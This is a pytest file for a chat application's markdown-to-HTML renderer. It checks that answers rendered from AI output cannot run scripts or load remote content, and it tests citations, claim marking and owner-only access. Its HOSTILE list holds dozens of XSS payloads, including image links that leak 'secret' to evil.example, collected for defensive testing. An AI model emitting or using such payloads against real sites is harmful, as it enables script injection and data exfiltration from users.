"""Answers as HTML: what models may write, and what becomes of it where they were told to do harm."""

import re
from html.parser import HTMLParser
from uuid import uuid4

import pytest

from ringfence.chats.queries import Claim
from ringfence.http.web.markdown import rendered
from tests.http.test_chats import ada, asked, begun  # noqa: F401  # a fixture among them

HARMLESS = {
    *("a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "span"),
    *("strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"href", "title", "rel", "start", "class", "data-n"}


class Seen(HTMLParser):
    """What a browser would make of HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    @property
    def links(self):
        return [attributes["href"] for tag, attributes in self.tags if tag == "a" and "href" in attributes]


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=secret'>",
    "![secret](https://evil.example/p.png?q=secret)",
    "![secret][1]\n\n[1]: https://evil.example/p.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.example/1)",
    "[click](//evil.example)",
    "[click](/api/v1/auth/cookie)",
    "[click](\\\\evil.example\\share)",
    "[click](https:\\\\evil.example)",
    "[click](http://a\u0000javascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[ref]\n\n[ref]: https://evil.example 'x'",
    "[a]: https://evil.example\n[a]: javascript:x\n\n[a]",
    "<javascript:alert(1)>",
    "<https://evil.example/?q=secret>",
    '[a](https://x.example "onmouseover=alert(1) \\" onclick=\\"x")',
    '[a](https://x.example/"onmouseover="alert(1))',
    "<a href='javascript:alert(1)'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<video poster=//evil.example><audio src=//evil.example><source srcset=//evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td background=//evil.example>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "`</code><script>alert(1)</script>`",
    "```html onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| a | b |\n|---|---|\n| <img src=x> | ![x](//evil.example) |",
    '# <img src=x onerror="alert(1)"> [x](javascript:1)',
    "<span class=cite data-n=1></span><span class='unsupported' style='x'>x</span>",
    "\ue000\ue001\ue002<b>\ue000</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=x " + "<" * 2000,
    "[" * 3000 + "](" * 100,
    ">" * 500 + "<script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_answer_can_run_or_fetch_anything(text: str) -> None:
    seen = Seen(rendered(text, [Claim(0, len(text), "unsupported")]))
    assert {tag for tag, _ in seen.tags} <= HARMLESS
    assert {name for _, attributes in seen.tags for name in attributes} <= ATTRIBUTES
    assert all(re.match(r"(https?://|mailto:)[^\s\\]+$", link) for link in seen.links)
    assert all(attributes["rel"] == "noopener noreferrer nofollow" for tag, attributes in seen.tags if tag == "a")
    assert not re.search("[\ue000-\ue002]", seen.text)


def test_markdown_is_what_people_expect() -> None:
    text = "# Leave\n\n**Six** *weeks*, ~~four~~ `x[1]`:\n\n3. one\n4. [two](https://a.example/b 'T')\n\n"
    text += "| a |\n|---|\n| b |"
    html = rendered(text)
    assert html.startswith("<h3>Leave</h3>\n<p><strong>Six</strong> <em>weeks</em>, <s>four</s> <code>x[1]</code>:</p>")
    assert '<ol start="3">' in html
    assert '<a href="https://a.example/b" title="T" rel="noopener noreferrer nofollow">two</a>' in html
    assert "<td>b</td>" in html
    assert rendered("###### deep") == "<h6>deep</h6>\n"


def test_citations_become_places_for_chips_and_numbers_without_a_source_go() -> None:
    html = rendered("Six weeks [1, 9]. *Two [2]* `[1]` [x][1]\n\n```\n[1]\n```", sources=2)
    assert re.findall(r'<span class="cite" data-n="(\d+)"></span>', html) == ["1", "2", "1"]
    assert html.startswith('<p>Six weeks<span class="cite" data-n="1"></span>. ')
    assert "<code>[1]</code>" in html
    assert "9" not in html


def test_sentences_in_doubt_are_marked_within_their_elements() -> None:
    text = "- It is **six weeks** [1].\n- It is red. It is so."
    claims = [Claim(0, 26, "unsupported"), Claim(29, 39, "partly"), Claim(40, 49, "supported")]
    html = rendered(text, claims)
    assert html == (
        '<ul>\n<li><span class="unsupported">It is </span><strong><span class="unsupported">six weeks</span></strong>'
        '<span class="cite" data-n="1"></span><span class="unsupported">.</span></li>\n'
        '<li><span class="partly">It is red.</span> It is so.</li>\n</ul>\n'
    )
    table = "| a | b |\n|---|---|\n| c | d |"
    html = rendered(table, [Claim(0, len(table), "partly")])
    assert re.findall("<t[dh]>(.*?)</t[dh]>", html) == [f'<span class="partly">{one}</span>' for one in "abcd"]
    # Places that the text does not have, or that lie within another, mark nothing.
    assert rendered("a b", [Claim(0, 9, "partly"), Claim(1, 1, "partly")]) == "<p>a b</p>\n"
    assert rendered("a b", [Claim(0, 3, "partly"), Claim(1, 2, "partly")]) == '<p><span class="partly">a b</span></p>\n'


async def test_an_answer_as_html_is_for_its_owner_alone(ada, live) -> None:  # noqa: F811
    chat = await begun(ada)
    message = await asked(ada, chat)
    path = f"{chat.removeprefix('/api/v1')}/messages/{message['message_id']}/html"
    assert (await ada.get(path)).status_code == 401  # a token is of no use here
    body = {"email": "ada@example.com", "password": "correct horse battery staple"}
    origin = {"Origin": live.url}
    assert (await ada.post("/api/v1/auth/cookie", json=body, headers=origin)).status_code in {200, 201, 204}
    found = await ada.get(path, headers={"Authorization": ""})
    assert found.headers["content-type"] == "text/html; charset=utf-8"
    assert '<span class="cite" data-n="1"></span>' in found.text
    other = path.replace(message["message_id"], str(uuid4()))
    assert (await ada.get(other)).status_code == 404
    async with live.account("bob@example.com") as bob:
        assert (await bob._http.get(path)).status_code == 401
        mine = {**body, "email": "bob@example.com"}
        await bob._http.post("/api/v1/auth/cookie", json=mine, headers=origin)
        assert (await bob._http.get(path)).status_code == 404
